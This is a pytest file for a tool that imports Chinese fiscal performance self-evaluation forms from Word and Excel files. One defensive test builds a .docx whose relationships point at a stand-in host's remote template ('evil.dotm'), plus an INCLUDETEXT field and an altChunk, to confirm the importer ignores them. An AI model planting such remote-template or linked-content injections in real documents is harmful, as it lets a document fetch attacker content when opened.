"""Import of official forms typed in Word, Excel or WPS (xlperf import, sources.load_form).

Round trips: model -> a copy laid out as the official template (tests/official_forms.py,
several layout variants, .docx and .xlsx) -> import -> the same model; the seed's text
typed into a .docx imports with nothing missing; the label-anchored reader agrees with
the layout reader on xlperf's own workbook. Each IMP code has a trigger and a near miss.
"""

from __future__ import annotations

import copy
import json
import os
import shutil
import subprocess
import zipfile
from decimal import Decimal
import sys
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tests.official_forms import VARIANTS, Variant, comparable, write_docx, write_xlsx
from tests.seed_docx import seed_docx
from xlperf.engine.checks import CATALOGUE, item_number
from xlperf.files import sources
from xlperf.files.grid import TextGrid, norm
from xlperf.files.imports import grid_of, import_file, import_grid
from xlperf.files.safezip import UnreadableFile
from xlperf.forms.guangdong_1_1 import importer
from xlperf.forms.guangdong_1_1.model import SelfEvaluation

ROOT = Path(__file__).resolve().parent.parent
EXAMPLE = ROOT / "examples" / "shaoguan-2020.json"
WORKBOOK = ROOT / "workbook" / "示例-韶关市行政服务中心-2020.xlsm"


def seed() -> SelfEvaluation:
    return sources.load(EXAMPLE)


def codes(result) -> list[str]:
    return [f.code for f in result.findings]


# ---- the seed and the official layouts ---------------------------------------------------


def test_seed_typed_into_docx_imports_with_nothing_missing(tmp_path):
    result = import_file(seed_docx(tmp_path / "seed.docx"))
    assert result.findings == []
    assert comparable(result.form) == comparable(seed())
    where = {item.field: item.where for item in result.record.read}
    assert where["basic.eval_amount"] == "第1个表格第1行第9格"
    assert where["funding.by_purpose[0].purpose"] == "第1个表格第11行第5格"
    assert where["indicators.satisfaction[0].actual"] == "第2个表格第10行第8格"
    assert where["report.fill_date"] == "第12段"
    assert where["report.problems"] == "第3个表格第7行第2格"


@pytest.mark.parametrize("fmt", ["docx", "xlsx"])
@pytest.mark.parametrize("variant", VARIANTS, ids=[v.name for v in VARIANTS])
def test_official_layout_variants_round_trip(tmp_path, variant, fmt):
    ev = seed()
    path = tmp_path / f"form.{fmt}"
    (write_docx if fmt == "docx" else write_xlsx)(ev, path, variant)
    result = import_file(path)
    assert result.findings == []
    assert comparable(result.form) == comparable(ev)


def test_label_reader_agrees_with_the_layout_reader_on_xlperf_workbooks():
    """Two readers of one file: by the layout recorded in _xlperf, and by the labels only."""
    by_layout = sources.load(WORKBOOK)
    by_labels = import_grid(grid_of(WORKBOOK))
    assert by_labels.findings == []
    assert by_labels.form.model_dump(exclude={"scoring"}) == by_layout.model_dump(exclude={"scoring"})


# ---- hypothesis ------------------------------------------------------------------------------

_KNOWN = {norm(x) for x in importer.known_labels()} | {norm(p) for p, _ in importer.SECTIONS}
_alphabet = st.sampled_from(list("绩效目标完成情况预算资金服务满意度增长率数量质量时效成本是否项名称单位")
                            + list("abcXYZ0123456789%.-/（）、，。《》≥≤ "))
_text = st.text(_alphabet, max_size=24).map(str.strip).filter(lambda t: norm(t) not in _KNOWN and t != "无")
_short = _text.filter(bool)
_doc = _short.filter(lambda t: item_number(t) is None)


@st.composite
def typed_forms(draw):
    """Forms a person can type into the official table: every text a value (not a label)."""
    from tests.strategies import self_evaluations

    ev = draw(self_evaluations(max_rows=2, max_years=2))
    data = ev.model_dump(mode="json")
    for section, fields in (("header", ["unit_name"]),
                            ("basic", ["project_name", "contact_name", "contact_phone", "contact_email"]),
                            ("goals", ["overall", "stage", "actual"]),
                            ("report", ["project_name", "department", "filler_name", "phone", "unit_overview",
                                        "implementation", "self_assessment", "fund_performance", "problems",
                                        "improvements", "other"])):
        for name in fields:
            data[section][name] = draw(_text)
    data["other_notes"] = draw(_text)
    data["basic"]["basis_documents"] = draw(st.lists(_doc, max_size=3))
    for block in ("budget", "spending", "by_purpose"):
        for row in data["funding"][block]:
            if "purpose" in row:
                row["purpose"] = draw(_text)
    for name, rows in data["indicators"].items():
        if isinstance(rows, list):
            data["indicators"][name] = [
                {"name": draw(_short), **{k: draw(_text) for k in ("formula", "target", "actual", "explanation")}}
                for _ in rows
            ]
    return SelfEvaluation.model_validate(data)


@settings(max_examples=25, deadline=None, suppress_health_check=list(HealthCheck))
@given(ev=typed_forms(), variant=st.sampled_from(VARIANTS), fmt=st.sampled_from(["docx", "xlsx"]))
def test_generated_forms_round_trip(tmp_path_factory, ev, variant, fmt):
    path = tmp_path_factory.mktemp("gen") / f"form.{fmt}"
    (write_docx if fmt == "docx" else write_xlsx)(ev, path, variant)
    result = import_file(path)
    assert [f for f in result.findings if f.code != "IMP003"] == []
    assert comparable(result.form) == comparable(ev)


# ---- what is reported, never guessed ----------------------------------------------------------


def _seed_grid(tmp_path) -> TextGrid:
    return grid_of(seed_docx(tmp_path / "seed.docx"))


def _replace(grid: TextGrid, old: str, new, nth: int = 0) -> TextGrid:
    grid = copy.deepcopy(grid)
    hits = [(r, c) for r, row in enumerate(grid.rows) for c, v in enumerate(row) if isinstance(v, str) and norm(v) == norm(old)]
    r, c = hits[nth]
    grid.rows[r][c] = new
    return grid


def _fired(grid: TextGrid, code: str) -> list:
    return [f for f in import_grid(grid).findings if f.code == code]


def test_imp001_a_label_that_is_not_there(tmp_path):
    found = _fired(_replace(_seed_grid(tmp_path), "评价金额", "金额"), "IMP001")
    assert [(f.field, f.severity) for f in found] == [("basic.eval_amount", "error")]
    assert "评价金额" in found[0].message and "没有读取" in found[0].message
    assert import_grid(_replace(_seed_grid(tmp_path), "评价金额", "金额")).form.basic.eval_amount is None


def test_imp001_near_miss_label_written_another_way(tmp_path):
    grid = _replace(_seed_grid(tmp_path), "评价金额", "评价金额（万元）：")
    assert _fired(grid, "IMP001") == []
    assert str(import_grid(grid).form.basic.eval_amount) == "122.17"


def test_imp002_a_label_found_twice(tmp_path):
    grid = _replace(_seed_grid(tmp_path), "联系人", "联系电话")
    found = _fired(grid, "IMP002")
    assert [f.field for f in found] == ["basic.contact_phone"]
    assert "第1个表格第2行第2格" in found[0].message and "第1个表格第2行第5格" in found[0].message
    assert import_grid(grid).form.basic.contact_phone == ""


def test_imp002_near_miss_same_label_in_form_and_report(tmp_path):
    """联系电话 is on 附件1-1 and on 附件3's cover: two parts, no ambiguity."""
    assert _fired(_seed_grid(tmp_path), "IMP002") == []


def test_imp003_a_value_that_cannot_be_read(tmp_path):
    grid = _replace(_seed_grid(tmp_path), "2020年", "二〇二〇年")
    found = _fired(grid, "IMP003")
    assert [(f.field, f.cell) for f in found] == [("basic.eval_year", "第1个表格第1行第7格")]
    assert "二〇二〇年" in found[0].message
    assert import_grid(grid).form.basic.eval_year is None


def test_imp003_near_miss_full_width_digits_and_separators(tmp_path):
    grid = _replace(_replace(_seed_grid(tmp_path), "2020年", "２０２０年"), "122.17", "1,122.17")
    assert _fired(grid, "IMP003") == []
    form = import_grid(grid).form
    assert form.basic.eval_year == 2020 and str(form.basic.eval_amount) == "1122.17"


def test_imp004_an_indicator_row_under_no_sub_category(tmp_path):
    grid = _replace(_seed_grid(tmp_path), "数量指标", None)
    found = _fired(grid, "IMP004")
    assert len(found) == 1 and found[0].cell == "第2个表格第2行第5格"
    assert [f.field for f in _fired(grid, "IMP001")] == ["indicators.quantity"]


def test_imp004_near_miss_rows_continuing_a_merged_sub_category(tmp_path):
    ev = seed()
    ev.indicators.quantity = ev.indicators.quantity * 2
    path = tmp_path / "two.docx"
    write_docx(ev, path)
    result = import_file(path)
    assert codes(result) == []
    assert len(result.form.indicators.quantity) == 2


def test_imp005_no_attachment_3(tmp_path):
    path = tmp_path / "no-report.docx"
    write_docx(seed(), path, report=False)
    result = import_file(path)
    assert codes(result) == ["IMP005"]
    assert result.findings[0].severity == "warning"
    assert comparable(result.form, report=False) == comparable(seed(), report=False)


def test_imp005_near_miss_report_on_its_own_sheet(tmp_path):
    path = tmp_path / "with-report.xlsx"
    write_xlsx(seed(), path)
    assert "IMP005" not in codes(import_file(path))


def test_every_import_code_has_a_test_here():
    """Here or, for the codes only the national reader gives, in test_import_national."""
    text = Path(__file__).read_text(encoding="utf-8") + (Path(__file__).parent / "test_import_national.py").read_text(encoding="utf-8")
    for code in (c for c in CATALOGUE if c.startswith("IMP")):
        assert f"def test_{code.lower()}_" in text and f"def test_{code.lower()}_near_miss" in text, code


# ---- nothing in a file is followed --------------------------------------------------------------


def test_docx_fields_templates_altchunks_and_objects_are_never_followed(tmp_path):
    """A remote template, an INCLUDETEXT field, an altChunk and an external link: the import
    reads the same form, and no field code or linked text appears in what was read."""
    from tests.badfiles import rewrite_zip

    base = tmp_path / "base.docx"
    write_docx(seed(), base)
    field = (b'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> INCLUDETEXT '
             b'"http://203.0.113.9/x.docx" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
             b'<w:altChunk r:id="rIdChunk"/>')
    rels = (b'<Relationship Id="rIdChunk" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/aFChunk" '
            b'Target="http://203.0.113.9/chunk.html" TargetMode="External"/>'
            b'<Relationship Id="rIdTpl" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
            b'Target="http://203.0.113.9/evil.dotm" TargetMode="External"/></Relationships>')

    def change(part, data):
        if part == "word/document.xml":
            return data.replace(b"<w:body>", b"<w:body>" + field, 1)
        if part == "word/_rels/document.xml.rels":
            return data.replace(b"</Relationships>", rels)
        return data

    hostile = rewrite_zip(base, tmp_path / "hostile.docx", change)
    result = import_file(hostile)
    assert comparable(result.form) == comparable(seed())
    assert not any("203.0.113.9" in item.text or "INCLUDETEXT" in item.text for item in result.record.read)


# ---- .xls (through LibreOffice, which writes real BIFF files) -------------------------------------


def _soffice_convert(src: Path, outdir: Path, filter_name: str) -> Path:
    soffice = shutil.which("soffice") or shutil.which("libreoffice")
    assert soffice, "LibreOffice is needed (CI installs it)"
    profile = outdir / "lo-profile"
    subprocess.run([soffice, f"-env:UserInstallation=file://{profile}", "--headless", "--convert-to",
                    f"xls:{filter_name}", "--outdir", str(outdir), str(src)],
                   check=True, capture_output=True, timeout=180)
    return outdir / (src.stem + ".xls")


@pytest.fixture(scope="module")
def xls_files(tmp_path_factory):
    folder = tmp_path_factory.mktemp("xls")
    src = folder / "form.xlsx"
    write_xlsx(seed(), src, Variant("split-labels", split_labels=True))
    return _soffice_convert(src, folder, "MS Excel 97")


def test_xls_form_imports_as_the_same_model(xls_files):
    result = import_file(xls_files)
    assert result.findings == []
    assert comparable(result.form) == comparable(seed())
    assert result.record.read[0].where.startswith("附件1-1!")


def test_a_crashing_xls_reader_cannot_take_the_caller_down(xls_files):
    """The worker gets too little memory to even start calamine: the caller gets a refusal."""
    from xlperf.files.safezip import Limits
    from xlperf.files.xls_grid import read_xls

    with pytest.raises(UnreadableFile) as info:
        read_xls(xls_files, Limits(worker_memory_bytes=16 * 1024 * 1024))
    assert info.value.code == "IN_CORRUPT" and ".xls 文件无法读取" in info.value.message


# ---- every command reads them -----------------------------------------------------------------


def run_cli(*args, cwd):
    env = dict(os.environ, PYTHONPATH=str(ROOT), PYTHONIOENCODING="utf-8")
    return subprocess.run([sys.executable, "-m", "xlperf.cli", *map(str, args)], cwd=cwd, env=env,
                          capture_output=True, text=True, timeout=120)


def test_check_reads_a_docx_and_points_at_its_cells(tmp_path):
    path = seed_docx(tmp_path / "seed.docx")
    done = run_cli("check", path.name, "--json", cwd=tmp_path)
    data = json.loads(done.stdout)
    from_json = json.loads(run_cli("check", EXAMPLE, "--json", cwd=tmp_path).stdout)
    assert [(f["code"], f["field"]) for f in data["findings"]] == [(f["code"], f["field"]) for f in from_json["findings"]]
    assert data["score"] == from_json["score"]
    cells = {f["code"]: f["cell"] for f in data["findings"]}
    assert cells["FMT003"] == "第1个表格第4行第3格"


def test_a_docx_that_is_not_a_form_exits_2(tmp_path):
    from docx import Document

    doc = Document()
    doc.add_paragraph("会议纪要")
    doc.save(tmp_path / "memo.docx")
    done = run_cli("check", "memo.docx", cwd=tmp_path)
    assert done.returncode == 2
    assert "memo.docx" in done.stderr and "不是自评表" in done.stderr and "Traceback" not in done.stderr


def test_import_command_writes_json_and_workbooks_and_lists_what_was_read(tmp_path):
    src = seed_docx(tmp_path / "seed.docx")
    before = src.read_bytes()
    done = run_cli("import", src.name, "-o", "seed.json", cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    assert "读取了 81 项" in done.stdout and "第1个表格第1行第9格" in done.stdout and "全部栏目都已读取" in done.stdout
    assert comparable(SelfEvaluation.from_json((tmp_path / "seed.json").read_text(encoding="utf-8"))) == comparable(seed())
    for out in ("seed.xlsm", "seed.xlsx"):
        done = run_cli("import", src.name, "-o", out, cwd=tmp_path)
        assert done.returncode == 0, done.stderr
        assert comparable(sources.load(tmp_path / out)) == comparable(seed())
    again = run_cli("import", src.name, "-o", "seed.json", cwd=tmp_path)
    assert again.returncode == 2 and "已存在" in again.stderr
    assert src.read_bytes() == before


def test_import_command_exits_1_when_something_was_not_read(tmp_path):
    grid_path = tmp_path / "gap.xlsx"
    write_xlsx(seed(), grid_path, report=False)
    from openpyxl import load_workbook

    wb = load_workbook(grid_path)
    ws = wb["附件1-1"]
    for row in ws.iter_rows():
        for cell in row:
            if cell.value == "评价金额":
                cell.value = "金额"
    wb.save(grid_path)
    done = run_cli("import", "gap.xlsx", "-o", "gap.json", cwd=tmp_path)
    assert done.returncode == 1
    assert "IMP001" in done.stdout and "评价金额" in done.stdout and "IMP005" in done.stdout
    assert (tmp_path / "gap.json").exists()


# ---- carry-over --------------------------------------------------------------------------


def test_carry_over_of_the_seed_to_2021_checks_with_only_an_unfilled_years_findings(tmp_path):
    src = seed_docx(tmp_path / "2020.docx")
    done = run_cli("new", "2021.xlsm", "--from", src.name, "--next-year", cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    out = done.stdout
    assert out.index("保留（") < out.index("顺延一年（") < out.index("清空（") < out.index("已生成工作簿")
    assert "评价年度：2020 → 2021" in out and "业务办理增长率（上年实现值 大厅办件量增长1.12%，热线增长率117.8%）" in out
    ev = sources.load(tmp_path / "2021.xlsm")
    last = seed()
    assert ev.basic.eval_year == 2021 and str(ev.basic.start_date) == "2021-01-01" and str(ev.basic.end_date) == "2021-12-31"
    assert (ev.header, ev.basic.project_name, ev.basic.basis_documents) == (last.header, last.basic.project_name, last.basic.basis_documents)
    assert ev.goals.overall == last.goals.overall and ev.goals.actual == "" and ev.goals.achieved_on_time is None
    assert [(r.name, r.formula, r.target, r.actual, r.explanation) for _, _, r in ev.indicators.each()] == [
        (r.name, r.formula, r.target, "", "") for _, _, r in last.indicators.each()]
    assert ev.indicators.quantity[0].previous_actual == last.indicators.quantity[0].actual
    assert ev.indicators.quality[0].previous_actual == ""
    assert [b.model_dump() for b in ev.funding.budget] == [{"year": 2021, "central_provincial": None, "municipal": None,
                                                            "transfer_county": None, "total": None}]
    assert ev.report.self_assessment == "" and ev.report.filler_name == last.report.filler_name
    result = json.loads(run_cli("check", "2021.xlsm", "--json", cwd=tmp_path).stdout)
    found = sorted((f["code"], f["field"]) for f in result["findings"])
    unfilled = {("REQ001", "basic.eval_amount"), ("REQ001", "funding.budget[0]"), ("REQ001", "funding.spending[0]"),
                ("AMT008", "funding.by_purpose[0].amount"), ("REQ001", "goals.achieved_on_time"), ("REQ001", "goals.actual"),
                ("IND008", "indicators.quantity[0].actual"), ("IND008", "indicators.quality[0].actual"),
                ("IND008", "indicators.satisfaction[0].actual"), ("SCR001", "scoring")}
    kept_from_the_seed = {("FMT003", "basic.basis_documents[1]"), ("IND004", "indicators.economic")}
    assert set(found) == unfilled | kept_from_the_seed


def test_next_year_needs_a_source(tmp_path):
    done = run_cli("new", "x.xlsm", "--next-year", cwd=tmp_path)
    assert done.returncode == 2 and "--from" in done.stderr and not (tmp_path / "x.xlsm").exists()


# ---- review over a folder of whatever units sent ------------------------------------------------


def test_review_over_a_mixed_folder_matches_what_was_seeded(tmp_path, xls_files):
    """Guangdong and national forms of every sort (workbooks, JSON, typed .docx/.xlsx/.xls,
    broken files) in one folder: one row each, its 表式, exactly the seeded findings."""
    from tests import national_forms
    from tests.badfiles import SEEDS, clean_data, docx_span_bomb, html_xls, national_docx_too_many_indicators
    from tests.badfiles import form_workbook
    from xlperf import forms
    from xlperf.forms.national_2020 import workbook as national_workbook
    from xlperf.outputs.review import UNREADABLE, review

    folder = tmp_path / "in"
    folder.mkdir()

    def form(name, unit):
        data = clean_data(unit, f"{unit}的项目")
        SEEDS[name].apply(data)
        return SelfEvaluation.model_validate(data)

    expected = {}
    form_workbook(folder / "a-workbook.xlsx", form("missing-phone", "甲单位"))
    expected["a-workbook.xlsx"] = ("甲单位", SEEDS["missing-phone"].findings)
    (folder / "b.json").write_text(form("bad-email", "乙单位").to_json(), encoding="utf-8")
    expected["b.json"] = ("乙单位", SEEDS["bad-email"].findings)
    write_docx(form("dates-reversed", "丙单位"), folder / "c-word.docx")
    expected["c-word.docx"] = ("丙单位", SEEDS["dates-reversed"].findings)
    write_xlsx(form("wrong-total", "丁单位"), folder / "d-excel.xlsx", Variant("no-merges", merges=False))
    expected["d-excel.xlsx"] = ("丁单位", SEEDS["wrong-total"].findings)
    shutil.copyfile(xls_files, folder / "e-old.xls")
    as_json = sources.load_form(EXAMPLE).evaluate().findings
    expected["e-old.xls"] = ("韶关市行政服务中心", {(f.code, f.field) for f in as_json})
    shutil.copyfile(docx_span_bomb(tmp_path, tmp_path), folder / "f-broken.docx")
    shutil.copyfile(html_xls(tmp_path, tmp_path), folder / "g-web.xls")
    broken = {"f-broken.docx": "IN_TOO_MANY_CELLS", "g-web.xls": "IN_WRONG_FORMAT"}
    guangdong = set(expected)

    def national(name: str):
        loaded = sources.load_form(ROOT / "examples" / f"{name}.json")
        return loaded.form, {(f.code, f.field) for f in loaded.evaluate().findings}

    form, found_in_json = national("national-tangxi-2022")
    shutil.copyfile(ROOT / "examples" / "national-tangxi-2022.json", folder / "h-national.json")
    expected["h-national.json"] = (form.implementer, found_in_json)
    form, found_in_json = national("national-lijiang-gucheng-2020")
    national_workbook.build(folder / "i-national-workbook.xlsx", form)
    expected["i-national-workbook.xlsx"] = (form.implementer, found_in_json)
    form, found_in_json = national("national-zhongjiang-2022")
    national_forms.write_docx(form, folder / "j-national-word.docx")
    expected["j-national-word.docx"] = (form.implementer, found_in_json)
    form, found_in_json = national("national-tianchang-2022")
    national_forms.write_xlsx(form, folder / "k-national-excel.xlsx", national_forms.VARIANTS[-1])
    expected["k-national-excel.xlsx"] = (form.implementer, found_in_json)
    national_forms.write_xlsx(form, tmp_path / "l-national-old.xlsx", national_forms.Variant("split", split_labels=True))
    shutil.copyfile(_soffice_convert(tmp_path / "l-national-old.xlsx", tmp_path, "MS Excel 97"), folder / "l-national-old.xls")
    expected["l-national-old.xls"] = (form.implementer, found_in_json)
    form, _ = national("national-clean-2022")
    bare = form.model_copy(update={"manager": "", "phone": "", "grade": "", "fill_date": None})
    national_forms.write_docx(bare, folder / "m-national-bare.docx", national_forms.BARE)
    expected["m-national-bare.docx"] = (form.implementer, {(f.code, f.field) for f in sources.load_form(folder / "m-national-bare.docx").evaluate().findings})
    assert {c for c, _ in expected["m-national-bare.docx"][1]} >= {"IMP006"}
    shutil.copyfile(national_docx_too_many_indicators(tmp_path, tmp_path), folder / "n-national-rows.docx")
    broken["n-national-rows.docx"] = "IN_INPUT"

    result = review([folder], tmp_path / "汇总.xlsx", jobs=2, progress=False)
    rows = {Path(f.file).name: f for f in result.forms}
    assert sorted(rows) == sorted([*expected, *broken])
    found: dict[str, set] = {}
    for f in result.findings:
        found.setdefault(Path(f.file).name, set()).add((f.code, f.field))
    for name, (unit, findings) in expected.items():
        assert rows[name].unit == unit, name
        assert found.get(name, set()) == set(findings), name
        assert rows[name].kind == (forms.kind(forms.GUANGDONG) if name in guangdong else forms.kind(forms.NATIONAL)).title, name
    for name, code in broken.items():
        assert rows[name].status == UNREADABLE and rows[name].code == code
    cells = {f.code: f.cell for f in result.findings if Path(f.file).name == "c-word.docx"}
    assert cells["DAT001"].startswith("第1个表格第")
    cells = {f.code: f.cell for f in result.findings if Path(f.file).name == "j-national-word.docx"}
    assert cells and all(cell.startswith("第1个表格第") for code, cell in cells.items() if code.startswith("NAT")), cells


def test_report_typed_as_paragraphs_is_read_section_by_section(tmp_path):
    """附件3 typed without a table: each prompt a paragraph, its answer in the paragraphs
    below (or after the prompt in its own paragraph)."""
    from docx import Document

    from xlperf.forms.guangdong_1_1.layout import REPORT_COVER, REPORT_SECTIONS

    ev = seed()
    ev.report.problems = "细项的预算准确度还有待提升。\n部分合同付款滞后。"
    path = tmp_path / "report.docx"
    write_docx(ev, path, report=False)
    doc = Document(path)
    doc.add_paragraph("附件3")
    doc.add_paragraph("市级财政支出项目绩效自评报告")
    for attr, prompt, _ in REPORT_COVER:
        value = getattr(ev.report, attr)
        doc.add_paragraph(f"{prompt}{value if value is not None else ''}")
    for prompt, attr in REPORT_SECTIONS:
        if attr == "fund_performance":
            doc.add_paragraph(prompt + ev.report.fund_performance)
            continue
        doc.add_paragraph(prompt)
        for line in (getattr(ev.report, attr).split("\n") if attr else []):
            doc.add_paragraph(line)
    doc.save(path)
    result = import_file(path)
    assert result.findings == []
    assert result.form.report == ev.report
    where = {item.field: item.where for item in result.record.read}
    assert where["report.problems"].endswith("段") and where["report.fund_performance"].endswith("段")


def test_carry_over_plan_and_leap_day():
    import datetime as dt

    from xlperf.forms.guangdong_1_1.carry import next_year

    ev = seed()
    ev.basic.end_date = dt.date(2020, 2, 29)
    new, plan = next_year(ev)
    assert new.basic.end_date == dt.date(2021, 2, 28)
    assert ev.basic.eval_year == 2020 and ev.goals.actual, "the source form is left as it was"
    assert any(line.startswith("评价年度：2020 → 2021") for line in plan.moved)
    assert "绩效指标的实现值和未完成原因说明" in plan.cleared
    again, _ = next_year(new)
    assert again.basic.eval_year == 2022 and again.indicators.quantity[0].previous_actual == ""
    assert not any("分值" in line for line in plan.kept)


def test_carry_over_keeps_the_indicator_rows_weights():
    from xlperf.forms.guangdong_1_1.carry import next_year

    ev = seed()
    ev.indicators.quantity[0].weight = Decimal("30")
    new, plan = next_year(ev)
    assert new.indicators.quantity[0].weight == Decimal("30") and new.indicators.quality[0].weight is None
    assert "绩效指标的名称、计算公式、预期值、分值（填“无”的子类仍为“无”）" in plan.kept


def test_labels_with_required_marks_and_values_with_units(tmp_path):
    grid = _replace(_seed_grid(tmp_path), "项目名称", "*项目名称：")
    grid = _replace(grid, "122.17", "122.17万元")
    grid.rows[2][0] = "填报单位（盖章）：韶关市行政服务中心    金额单位：万元"
    result = import_grid(grid)
    assert result.findings == []
    assert result.form.basic.project_name == seed().basic.project_name
    assert str(result.form.basic.eval_amount) == "122.17"
    assert result.form.header.unit_name == "韶关市行政服务中心"


def test_strict_open_xml_documents_are_read(tmp_path):
    """Word's "Strict Open XML" saves the same document under another namespace."""
    from tests.badfiles import rewrite_zip

    base = seed_docx(tmp_path / "seed.docx")
    strict = rewrite_zip(base, tmp_path / "strict.docx", lambda part, data: data.replace(
        b"http://schemas.openxmlformats.org/wordprocessingml/2006/main", b"http://purl.oclc.org/ooxml/wordprocessingml/main")
        if part == "word/document.xml" else data)
    assert b"purl.oclc.org" in zipfile.ZipFile(strict).read("word/document.xml")
    result = import_file(strict)
    assert result.findings == [] and comparable(result.form) == comparable(seed())


def test_an_xls_saved_under_an_xlsx_name_is_imported(xls_files, tmp_path):
    renamed = tmp_path / "2020自评表.xlsx"
    shutil.copyfile(xls_files, renamed)
    loaded = sources.load_form(renamed)
    assert loaded.findings == [] and comparable(loaded.form) == comparable(seed())


def test_imp003_a_total_typed_as_a_formula_without_a_stored_value(tmp_path):
    """A formula is never computed: without the value Excel stored, it is reported."""
    from openpyxl import load_workbook

    path = tmp_path / "formula.xlsx"
    write_xlsx(seed(), path)
    wb = load_workbook(path)
    ws = wb["附件1-1"]
    cell = next(c for row in ws.iter_rows() for c in row if c.value == "122.17" and c.column == 9 and c.row > 6)
    cell.value = "=SUM(E11:H11)"
    wb.save(path)
    found = [f for f in import_file(path).findings if f.code == "IMP003"]
    assert [(f.field, f.cell) for f in found] == [("funding.budget[0].total", f"附件1-1!I{cell.row}")]
    assert "公式" in found[0].message
